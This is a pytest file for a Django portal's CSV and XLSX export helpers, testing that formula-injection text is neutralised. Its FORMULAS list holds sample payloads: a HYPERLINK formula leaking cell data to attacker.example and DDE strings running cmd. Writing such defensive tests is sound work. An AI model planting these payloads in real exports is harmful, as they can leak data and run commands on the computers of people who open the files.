import csv
import datetime
import io
import os
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core import spreadsheets

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = [-5, 0, 1200, Decimal("-2.50"), -1.5, 26.0]


def through_csv_response(values):
    response, writer = spreadsheets.csv_response("table.csv")
    writer.writerow(values)
    writer.writerows([values])
    text = response.content.decode("utf-8")
    assert text.startswith(spreadsheets.BYTE_ORDER_MARK)
    assert response["Content-Disposition"] == 'attachment; filename="table.csv"'
    rows = list(csv.reader(io.StringIO(text.removeprefix(spreadsheets.BYTE_ORDER_MARK))))
    assert rows[0] == rows[1]
    return rows[0]


def through_csv_document(values):
    document = spreadsheets.CsvDocument()
    document.writer.writerow(values)
    text = document.to_bytes().decode("utf-8-sig")
    return next(csv.reader(io.StringIO(text)))


def xlsx_cells(values):
    document = spreadsheets.XlsxDocument()
    sheet = document.sheet("Sheet")
    sheet.append(["Title"], bold=True)
    sheet.append([])
    sheet.append(values)
    workbook = load_workbook(io.BytesIO(document.to_bytes()))
    (row,) = workbook["Sheet"].iter_rows(min_row=3, max_row=3)
    return row


def through_xlsx(values):
    cells = xlsx_cells(values)
    for cell in cells:
        assert cell.data_type != "f", cell.value
    return [cell.value for cell in cells]


WRITERS = [through_csv_response, through_csv_document, through_xlsx]


@pytest.mark.parametrize("write", WRITERS)
def test_every_writer_neutralises_text_that_would_run_as_a_formula(write):
    expected = ["'" + text for text in FORMULAS]
    if write is through_xlsx:
        # XML reads a carriage return back as a line feed.
        expected = [text.replace("\r", "\n") for text in expected]
    assert write(FORMULAS) == expected


@pytest.mark.parametrize("write", WRITERS)
def test_text_that_runs_nothing_is_written_as_it_is(write):
    plain = ["Welding and safety", "a=b", "info@virtanen.example", "Näin 'on' hyvä", ""]
    written = write(plain)
    assert written[:-1] == plain[:-1]
    assert written[-1] in ("", None)


@pytest.mark.parametrize("write", [through_csv_response, through_csv_document])
def test_csv_numbers_stay_numbers_and_are_never_localised(write):
    with translation.override("fi"):
        assert write(NUMBERS) == ["-5", "0", "1200", "-2.50", "-1.5", "26.0"]


def test_xlsx_numbers_stay_numbers():
    cells = xlsx_cells(NUMBERS)
    assert [cell.value for cell in cells] == [-5, 0, 1200, -2.5, -1.5, 26]
    assert {cell.data_type for cell in cells} == {"n"}


def test_xlsx_text_is_a_string_never_a_formula_or_an_error():
    cells = xlsx_cells(["#N/A", "#DIV/0!", "=", "ok\x00\x0b"])
    assert [cell.value for cell in cells] == ["#N/A", "#DIV/0!", "'=", "ok"]
    assert {cell.data_type for cell in cells} == {"s"}


def test_xlsx_keeps_dates_and_writes_times_in_the_portals_zone():
    moment = datetime.datetime(2026, 1, 31, 22, 30, tzinfo=datetime.UTC)
    cells = xlsx_cells([datetime.date(2026, 2, 1), moment])
    # XLSX has no time zones: what the cells hold is naive by the format's design.
    assert cells[0].value == datetime.datetime(2026, 2, 1)  # noqa: DTZ001
    assert settings.TIME_ZONE == "Europe/Helsinki"
    naive_helsinki = datetime.datetime(2026, 2, 1, 0, 30)  # noqa: DTZ001
    assert cells[1].value == timezone.make_naive(moment) == naive_helsinki


@pytest.mark.parametrize("write", WRITERS)
def test_translated_text_is_written_in_the_active_language_and_neutralised(write):
    with translation.override("en"):
        assert write([gettext_lazy("Finnish"), "-"]) == ["Finnish", "'-"]


def test_sheet_names_lose_the_characters_xlsx_refuses():
    document = spreadsheets.XlsxDocument()
    document.sheet("Mobilities: by country / sector [2026]?" * 2)
    workbook = load_workbook(io.BytesIO(document.to_bytes()))
    (name,) = workbook.sheetnames
    assert len(name) == 31 and not set(name) & set("[]:*?/\\")


def _portal_sources(root: Path):
    for folder, subfolders, files in os.walk(root):
        # Not the tests (they read tables back), nor virtualenvs, caches or git.
        subfolders[:] = [
            name
            for name in subfolders
            if not name.startswith(".") and name not in ("tests", "node_modules", "var")
        ]
        yield from (Path(folder) / name for name in files if name.endswith(".py"))


def test_no_table_is_written_except_through_the_shared_writer():
    root = Path(settings.BASE_DIR)
    shared = root / "core" / "spreadsheets.py"
    writing = re.compile(
        r"csv\.writer|csv\.DictWriter|^\s*(?:from|import)\s+openpyxl\b", re.MULTILINE
    )
    sources = list(_portal_sources(root))
    assert root / "reports" / "exports.py" in sources
    offenders = [
        str(path.relative_to(root))
        for path in sources
        if path != shared and writing.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
